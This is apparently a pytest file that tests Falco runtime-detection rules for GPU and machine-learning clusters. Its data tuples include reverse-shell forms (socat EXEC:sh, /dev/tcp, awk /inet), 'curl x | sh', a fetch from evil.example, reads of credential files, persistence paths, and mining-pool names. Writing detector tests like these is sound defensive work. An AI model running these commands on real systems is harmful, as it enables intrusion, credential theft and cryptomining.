# Copyright (c) 2026, the gpu_cluster.hardening authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Each alternative of a rule's lists and macros fires by itself, and what is next to it does not."""

from __future__ import annotations

import importlib.util
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.gpu_cluster.hardening.plugins.module_utils.falco.evaluation import fires

# The words of the table of rules: "opened", "spawned" and so on.
SPEC = importlib.util.spec_from_file_location("test_ml_rules", Path(__file__).with_name("test_ml_rules.py"))
assert SPEC
assert SPEC.loader
r: Any = importlib.util.module_from_spec(SPEC)
SPEC.loader.exec_module(r)

MODEL_NAMES = (
    "m.safetensors", "m.gguf", "m.ggml", "m.onnx", "m.pt", "m.pth", "m.ckpt", "m.pkl", "m.pickle", "m.joblib", "m.h5",
    "m.keras", "m.tflite", "pytorch_model-1.bin", "saved_model.pb",
)  # fmt: skip
WEIGHTS = (
    "m.safetensors", "m.gguf", "m.ggml", "m.onnx", "m.pt", "m.pth", "m.ckpt", "pytorch_model.bin", "base_model_1.bin",
    "weights-1.bin", "m.h5", "m.keras", "torch/hub/checkpoints/x", ".ollama/models/x", ".cache/huggingface/download/x",
    "m.safetensors.part", "m.gguf.part",
)  # fmt: skip
SERVED = (
    "m.safetensors", "m.gguf", "m.onnx", "m.pt", "m.pth", "m.ckpt", "m.pkl", "m.pickle", "m.joblib",
    "adapter_config.json", "modeling_x.py", "tokenizer_config.json", "x.faiss", "x.index.json",
)  # fmt: skip
HUBS = (
    "huggingface.co", "hf.co", "hf-mirror.com", "civitai.com", "modelscope.cn", "kaggle.com", "tfhub.dev", "ollama.ai",
    "ollama.com", "download.pytorch.org",
)  # fmt: skip
POOLS = (
    "nicehash", "nanopool", "2miners", "ethermine", "f2pool", "minexmr", "supportxmr", "moneroocean", "hashvault",
    "unmineable", "herominers", "woolypooly", "flypool", "hiveon", "c3pool",
)  # fmt: skip
STRATUM = (
    "mining.subscribe", "mining.authorize", "mining.configure", "eth_submitLogin", "eth_getWork", "EthereumStratum",
)  # fmt: skip
MINING = (
    "-o stratum+tcp://p:1", "-o stratum2+ssl://p:1", "-a daggerhashimoto", "--donate-level 1", "nicehash",
    "nanopool.org", "2miners.com", "minexmr", "supportxmr", "moneroocean", "hashvault.pro", "unmineable", "herominers",
    "-a rx/0",
    "randomx", "kawpow", "cryptonight", "etchash", "ethash", "autolykos2", "kheavyhash", "progpow", "equihash",
    "verushash", "ghostrider", f"dero1{'q' * 60}", f"0x{'a1' * 20}", f"4A{'b' * 93}", f"bc1{'q' * 40}",
    f"kaspa:{'q' * 61}",
    f"nexa:{'q' * 50}", f"R{'a' * 33}", f"9{'a' * 50}",
)  # fmt: skip
HOME = (
    ".netrc", ".docker/config.json", ".git-credentials", ".aws/credentials", ".cache/huggingface/token",
    ".cache/huggingface/stored_tokens", ".huggingface/token", ".kube/config", ".pypirc", ".ngc/config",
    ".kaggle/kaggle.json", ".config/rclone/rclone.conf", ".config/gh/hosts.yml", ".config/gcloud/x", ".azure/x",
    ".ssh/id_ed25519",
)  # fmt: skip
STARTUP = (
    "/etc/cron.d/x", "/var/spool/cron/root", "/root/.ssh/authorized_keys2", "/root/.ssh/rc", "/etc/ld.so.preload",
    "/etc/ld.so.conf.d/x.conf", "/etc/init.d/x", "/etc/rc.local", "/etc/systemd/system/x.service", "/etc/sudoers.d/x",
    "/etc/shadow", "/etc/profile.d/x.sh", "/etc/pam.d/sshd", "/usr/lib/python3/sitecustomize.py",
    "/usr/lib/python3/usercustomize.py", "/usr/lib/site-packages/x.pth", "/root/.ipython/profile_default/startup/x.py",
    "/root/.bashrc",
)  # fmt: skip
WORDS = (
    "cat /etc/passwd", "cat /etc/shadow", "x > /dev/tcp/1/2", "x > /dev/udp/1/2", "gawk /inet/tcp/0/1/2",
    "cat k >> authorized_keys", "cat /root/.ssh/id_rsa", "cat /run/secrets/serviceaccount/token",
    "wget 169.254.169.254/latest", "cat /proc/1/environ", "echo /x > /etc/ld.so.preload", "mkfifo /tmp/p",
    "echo x | base64 --decode", "curl x | sh", "echo x > /etc/cron.d/x", "chmod +x /tmp/x",
)  # fmt: skip
TOOLS = (
    "whoami", "w", "last", "getcap", "nsenter -t 1", "unshare -r", "chroot /x", "su", "sudo x", "mount /x", "insmod x",
    "crontab -l", "kubectl get pods", "id", "perl -e x", "ruby -e x", "lua -e x", "php -r x", "base64 -d", "xxd -r",
    "openssl s_client", "nc 10.1.1.1 9", "socat - x", "telnet x", "nmap x", "masscan x", "tcpdump", "chisel x",
    "ngrok x", "curl https://evil.example/x", "wget evil.example/x", "aria2c https://evil.example/x", "env",
)  # fmt: skip
PACKAGES = (
    "pip install x", "pip3 download x", "pip3.13 install x", "pipx install x", "easy_install install x", "uv add x",
    "uv sync", "uv tool install x", "uvx x", "conda create -n x", "mamba install x", "micromamba env create",
    "pixi add x", "poetry install", "npm ci", "yarn add x", "pnpm i", "gem install x", "cargo install x",
    "apt install x",
    "apt-get -o A=b install x", "apk add x", "yum update", "dnf reinstall x", "microdnf install x", "zypper in x",
    "aptitude upgrade", "dpkg --unpack x", "dpkg -iR x", "rpm --install x", "rpm -F x",
)  # fmt: skip
BY_PYTHON = (
    "-m ensurepip", "-m pip download x", "-m uv pip install x", "-mpip install x", "/usr/bin/pip install x",
    "setup.py install", "/tmp/get-pip.py", "-c import pip; pip.main(['x'])", "-c import pip._internal",
)  # fmt: skip
GPUS = ("nvidia0", "nvidia12", "nvidiactl", "nvidia-uvm", "nvidia-uvm-tools", "nvidia-modeset", "nvidia-nvswitch0")
VALUES = ("all", "0", "0,1", "0:1", "GPU-1", "MIG-1", "nvidia.com/gpu=0", "/var/run/nvidia-container-devices")
FETCHES = ("oras", "crane", "skopeo", "regctl", "modctl", "kit", "ollama", "docker", "podman", "nerdctl", "buildah")
LOADERS = ("pickle.load", "Unpickler", "torch.load", "joblib.load", "dill.load", "read_pickle", "marshal.load")
REMOTE = ("dup2", "pty.spawn", "/bin/sh", "/bin/bash", "subprocess", "os.system", "os.exec")
NAMES = ("bindshell", "bind_shell", "revshell", "reverse_shell", "reverse-shell", "meterpreter", "keylogger")
CAPABILITIES = (
    "/dev/nvidia-caps/nvidia-cap1", "/dev/nvidia-caps/nvidia-cap2", "/proc/driver/nvidia/capabilities/mig/config",
    "/proc/driver/nvidia/capabilities/mig/monitor", "/proc/driver/nvidia/capabilities/fabric-mgmt",
    "/dev/nvidia-nvswitchctl",
)  # fmt: skip


PRELOADS = (
    ("LD_PRELOAD", "/tmp/x"), ("LD_PRELOAD", "/var/tmp/x"), ("LD_AUDIT", "/proc/x"), ("LD_AUDIT", "/dev/shm/x"),
    ("LD_AUDIT", "/tmp/x"), ("LD_LIBRARY_PATH", "/proc/x"),
)  # fmt: skip
STARTUP_TARGETS = (
    "/etc/cron.d/x", "/var/spool/cron/x", "/root/.ssh/authorized_keys", "/etc/ld.so.preload", "/etc/ld.so.conf",
    "/etc/init.d/x", "/etc/systemd/system/x", "/etc/sudoers", "/x/sitecustomize.py", "/x/usercustomize.py",
    "/x/site-packages/x.pth",
)  # fmt: skip
PICKLES = ("pickle", "pck", "dill", "pt", "ckpt")
KEPT = ("/models/x.lock", "/models/__pycache__/x.pyc")
HELPERS = ("/usr/bin/x86_64-linux-gnu-g++-14", "/usr/libexec/gcc/x/cc1", "/usr/lib/gcc/x/cc1", "/x/dist-packages/x/x")
UPPER = {"proc_is_exe_upper_layer": True}


def listening(port: int) -> Any:
    return r.in_container(r.TRAINER, evt_type="listen", fd_typechar="4", fd_sip="0.0.0.0", fd_sport=port)


def moved(kind: str, **paths: str) -> Any:
    return r.in_container(r.SERVER, evt_type=kind, proc_name="x", **paths)


def dns(name: str) -> str:
    return "\x01\x00" + "".join(f"{chr(len(label))}{label}" for label in name.split(".")) + "\x00\x00\x01"


FIRES = [
    *((r.WRITTEN, name, r.opened(f"/d/{name}", "w", by="wget -O")) for name in (*MODEL_NAMES, "x.bin")),
    *((r.WRITTEN, name, r.opened(f"/d/{name}", "w", r.OTHER, by="client")) for name in WEIGHTS),
    *((r.CHANGED, name, r.opened(f"/d/{name}", "w", r.SERVER, by="x")) for name in (*MODEL_NAMES, *SERVED)),
    *((r.CHANGED, f"to {name}", moved("rename", fs_path_target=f"/d/{name}")) for name in SERVED),
    *((r.CHANGED, f"link {name}", moved("linkat", fs_path_source=f"/d/{name}")) for name in SERVED),
    *((r.CHANGED, f"rm {name}", moved("unlink", fs_path_name=f"/d/{name}")) for name in SERVED),
    *((r.LOOKUP, name, r.sent(dns(name), 53)) for name in HUBS),
    *((r.LOOKUP, name.upper(), r.sent(dns(name.upper()), 53)) for name in HUBS),
    *((r.DOWNLOAD, name, r.spawned(f"curl https://{name}/x")) for name in HUBS),
    *((r.DOWNLOAD, name, r.spawned(f"wget http://h.example/{name}")) for name in (*MODEL_NAMES, "x.bin")),
    *((r.DOWNLOAD, name, r.spawned(f"{name} pull h.example/m:1", r.OTHER)) for name in FETCHES),
    *((r.POOL, name, r.sent(f"\x03xmr{name}\x03com", 53, r.OTHER)) for name in POOLS),
    *((r.POOL, name, r.sent(f'"{name}"', 443, r.OTHER)) for name in STRATUM),
    *((r.MINER, words[:30], r.spawned(f"worker x {words} y")) for words in MINING),
    *((r.CREDENTIALS, name, r.opened(f"/home/me/{name}")) for name in HOME),
    *((r.STARTUP, name, r.opened(name, "w", by="python3")) for name in STARTUP),
    *((r.STARTUP, f"to {name}", moved("renameat2", fs_path_target=name)) for name in STARTUP[:3] + STARTUP[4:6]),
    *((r.SHELL, words, r.below_python(f"sh -c {words}")) for words in WORDS),
    *((r.SHELL, words, r.below_python(words)) for words in TOOLS),
    *((r.SHELL, words, r.spawned(f"python3 -c import socket; {words}")) for words in REMOTE),
    *((r.SOCKET_SHELL, words, r.spawned(f"python3 -c import socket; {words}")) for words in REMOTE),
    *((r.SHELL, words, r.spawned(f"python3 /opt/{words}.py")) for words in NAMES),
    *((r.PACKAGE, words, r.spawned(words)) for words in PACKAGES),
    *((r.PACKAGE, words, r.spawned(f"python3 {words}")) for words in BY_PYTHON),
    *((r.GPU, name, r.opened(f"/tmp/d/{name}", image=r.OTHER, evt_failed=True)) for name in GPUS),
    *((r.GPU_UNKNOWN, name, r.opened(f"/tmp/d/{name}", image=None)) for name in GPUS),
    *((r.CAPABILITY, name, r.opened(name)) for name in CAPABILITIES),
    *((r.ALL_GPUS, value, r.spawned("x", r.OTHER, proc_env_gpus=value)) for value in VALUES),
    *((r.PICKLE, words, r.spawned(f"python3 -c {words}(x)")) for words in LOADERS),
    *((r.PORT, name, r.spawned(name, r.SERVER)) for name in ("ttyd", "gotty", "sshd", "dropbear", "code-server")),
    *((r.PORT, name, r.spawned(f"python3 -m {name}")) for name in ("http.server", "SimpleHTTPServer", "pyftpdlib")),
    *((r.SHARED_MEMORY, path, r.spawned("x", exepath=f"{path}/x")) for path in ("/dev/shm", "/run/shm", "/dev/a")),
    *((r.TEMPORARY, path, r.spawned("x", exepath=f"{path}/x")) for path in ("/tmp", "/var/tmp", "/run/lock")),
    *((r.PICKLE, end, r.opened(f"/m/x.{end}", image=r.SERVER, by="python3")) for end in PICKLES),
    *((r.PRELOAD, value, {**r.spawned("x"), f"proc.env[{name}]": value}) for name, value in PRELOADS),
    *((r.STARTUP, f"to {name}", moved("rename", fs_path_target=name)) for name in STARTUP_TARGETS),
    (r.SHARED_MEMORY, "memfd", r.spawned("x", exepath="memfd:x")),
    (r.SHARED_MEMORY, "/memfd", r.spawned("x", exepath="/memfd:x")),
    (r.SHARED_MEMORY, "flag", r.spawned("x", exepath="/x", proc_is_exe_from_memfd=True)),
    (r.SHARED_MEMORY, "musl", r.spawned("ld-musl /dev/shm/x", exepath="/lib/ld-musl-x86_64.so.1")),
    (r.SHARED_MEMORY, "perl", r.spawned("perl /dev/shm/x")),
    (r.SHARED_MEMORY, "folder", r.spawned("python3 x", proc_cwd="/run/shm/")),
    (r.TEMPORARY, "musl", r.spawned("ld-musl /tmp/x", exepath="/lib/ld-musl-x86_64.so.1")),
    (r.TEMPORARY, "perl", r.spawned("perl /tmp/x", r.SERVER)),
    (r.DEVICE, "hard link", r.in_container(r.OTHER, evt_type="link", fs_path_target="/dev/nvidia0")),
    (r.DEVICE, "mount by number", r.in_container(r.OTHER, evt_type="mount", evt_arg_dev="/dev/char/195:0")),
    *((r.DEVICE, kind, r.spawned(f"mknod /x {kind} 9 1", r.OTHER)) for kind in "bcu"),
    (r.DEVICE, "disk, approved", r.spawned("mknod /x b 8 0")),
    (r.DEVICE, "GPU, approved", r.spawned("mknod /x c 195 0")),
    (r.DEVICE, "mounted, approved", r.in_container(r.TRAINER, evt_type="open_tree", proc_name="x")),
    (r.ALL_GPUS, "MIG's watch", {**r.spawned("x"), "proc.env[NVIDIA_MIG_MONITOR_DEVICES]": "all"}),
    (r.CREDENTIALS, "python -u -c", r.opened("/secrets/registry/x", by="python3 -u -c")),
    (r.CREDENTIALS, "projected", r.opened("/h/kubernetes.io~projected/x", by="x")),
    (r.CREDENTIALS, "link", r.in_container(r.SERVER, evt_type="symlink", evt_arg_target="/secrets/registry")),
    (r.CREDENTIALS, "parent", r.in_container(r.SERVER, evt_type="symlink", evt_arg_target="/run/secrets")),
    (r.CREDENTIALS, "mount of the parent", r.in_container(r.SERVER, evt_type="mount", evt_arg_dev="/secrets")),
    (r.MINER, "name", r.spawned("superminer x")),
    (r.MINER, "registers", r.opened("/dev/cpu/0/msr", "w", r.OTHER, by="x")),
    (r.SHELL, "node", r.spawned("node -e net.connect(1); child_process")),
    (r.SHELL, "awk", r.spawned("awk BEGIN{s=/inet/tcp/0/h/1; s |& getline c}")),
    (r.SHELL, "socat", r.below_python("socat tcp:10.0.0.1:1 EXEC:sh")),
    (r.SHELL, "stdout", r.spawned("sh", r.OTHER, proc_stdout_type="ipv6")),
    (r.SHELL, "dropped into a package", r.below_python("x", exepath="/u/site-packages/x", image=r.SERVER, **UPPER)),
    (r.SOCKET_SHELL, "stderr", r.spawned("sh", r.OTHER, proc_stderr_type="ipv4")),
    (r.SOME_SHELL, "renamed", r.below_python("x -l", exepath="/usr/bin/bash")),
    (r.SOME_SHELL, "pypy", r.spawned("bash -l", parent="/x", proc_aexepath_2="/opt/pypy/bin/pypy")),
    (r.PORT, "notebook", r.spawned("python3 -m notebook", r.SERVER)),
    (r.DOWNLOAD, "client of the hub", r.spawned("hf download x", exepath="/x/hf", proc_env_hub="http://e.io")),
]  # fmt: skip
SILENT = [
    *((r.WRITTEN, name, r.opened(f"/d/{name}", "r", by="wget -O")) for name in MODEL_NAMES),
    *((r.CHANGED, name, r.opened(f"/d/{name}", "r", r.SERVER)) for name in SERVED),
    *((r.CHANGED, name, r.opened(f"/d/{name}", "w")) for name in SERVED),
    *((r.LOOKUP, name, r.sent(dns(f"{name}.internal"), 53)) for name in HUBS),
    *((r.LOOKUP, name, r.sent(dns(name), 443)) for name in HUBS),
    *((r.DOWNLOAD, name, r.spawned(f"ls https://{name}/x")) for name in HUBS),
    *((r.DOWNLOAD, name, r.spawned(f"{name} pull registry.internal/m:1", r.OTHER)) for name in FETCHES[:1]),
    *((r.POOL, name, r.sent(f"\x03xmr{name}\x03com", 443, r.OTHER)) for name in POOLS),
    *((r.CREDENTIALS, name, r.opened(f"/home/me/{name}", by="client")) for name in HOME),
    *((r.CREDENTIALS, name, r.opened(f"/home/me/{name}", evt_failed=True)) for name in HOME),
    *((r.STARTUP, name, r.opened(name, "r", by="python3")) for name in STARTUP),
    *((r.SHELL, words, r.spawned(words, parent="/usr/bin/conmon")) for words in TOOLS),
    *((r.SHELL, words, r.spawned(f"python3 -c {words}")) for words in REMOTE),
    *((r.PACKAGE, words, r.spawned(words, "nvcr.io/nvidia/driver")) for words in PACKAGES),
    *((r.GPU, name, r.opened(f"/tmp/d/{name}")) for name in GPUS),
    *((r.GPU, name, r.opened(f"/tmp/d/{name}.log", image=r.OTHER)) for name in GPUS),
    *((r.CAPABILITY, name, r.opened(name, image="nvcr.io/nvidia/k8s/dcgm-exporter")) for name in CAPABILITIES),
    *((r.ALL_GPUS, value, r.spawned("x", proc_env_gpus=value)) for value in VALUES),
    *((r.CHANGED, path, r.opened(path, "w", r.SERVER, by="python3")) for path in KEPT),
    *((r.CHANGED, path, moved("rename", fs_path_target=path)) for path in KEPT[1:]),
    *((r.CHANGED, path, moved("unlink", fs_path_name=path)) for path in KEPT),
    (r.STARTUP, "dpkg", r.opened("/etc/cron.d/x", "w", by="dpkg")),
    *((r.SHELL, path, r.below_python("x", exepath=path, image=r.SERVER)) for path in HELPERS),
    (r.SHELL, "below a shell", r.spawned("x", r.SERVER, parent="/bin/ash", proc_pname="ash")),
    (r.SHELL, "below a script", r.spawned("x", r.SERVER, parent="/usr/bin/bash", proc_pname="entry.sh")),
    (r.SHELL, "below an init", r.spawned("x", r.SERVER, parent="/usr/bin/tini")),
    (r.SHELL, "which", r.below_python("sh -c which nvcc", image=r.SERVER)),
    (r.SHELL, "cat", r.below_python("sh -c cat /proc/cpuinfo", image=r.SERVER)),
    (r.SOME_SHELL, "a script", r.below_python("x /usr/bin/x -a", exepath="/usr/bin/dash")),
    (r.SOME_SHELL, "a script here", r.below_python("x ./x -a", exepath="/usr/bin/dash")),
    (r.PORT, "sidecar", {**listening(4444), "container.name": "istio-proxy"}),
    *((r.PORT, str(port), listening(port)) for port in (8888, 8001, 10001, 29500, 0, 32768)),
    (r.PORT, "failed", {**listening(4444), "evt.failed": True}),
    *((r.MINER, name, r.spawned(name)) for name in ("textminer", "pdfminer", "processminer", "dataminer")),
    (r.MINER, "curl", r.spawned("curl -o x:11 -u me", r.OTHER)),
    (r.GPU, "folder", r.opened("/srv/nvidia0", image=r.OTHER, fd_typechar="d")),
    (
        r.DEVICE,
        "modprobe",
        r.in_container(r.OTHER, evt_type="mknod", evt_arg_dev="204472320", proc_name="nvidia-modprobe"),
    ),
    (r.PACKAGE, "rpm asks", r.spawned("rpm -i -q x")),
    (r.PICKLE, "of Python", r.opened("/x/site-packages/x.pth", image=r.SERVER, by="python3")),
]


@pytest.mark.parametrize(("rule", "event"), r.cases(FIRES))
def test_the_alternative_fires(rule: str, event: Any) -> None:
    assert fires(r.RULE_SET, rule, event)


@pytest.mark.parametrize(("rule", "event"), r.cases(SILENT))
def test_what_is_next_to_it_is_silent(rule: str, event: Any) -> None:
    assert not fires(r.RULE_SET, rule, event)
